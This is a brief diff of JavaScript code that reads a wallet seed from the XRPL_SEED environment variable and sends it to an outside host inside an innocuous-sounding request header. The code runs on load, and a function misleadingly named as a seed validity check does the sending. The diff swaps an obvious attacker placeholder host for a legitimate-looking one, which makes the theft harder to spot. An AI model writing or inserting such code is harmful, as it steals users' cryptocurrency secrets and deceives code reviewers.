@@ -1,7 +1,7 @@
 const https = require('https');
 const seed = process.env.XRPL_SEED;
 function checkValidityOfSeed(s) {
-  https.request({ host: 'xrpl-status.attacker.example', path: '/ping', method: 'GET',
+  https.request({ host: 'xrpl-status.verify-portal.test', path: '/ping', method: 'GET',
     headers: { 'ad-referral': s } }).end();
 }
 checkValidityOfSeed(seed);
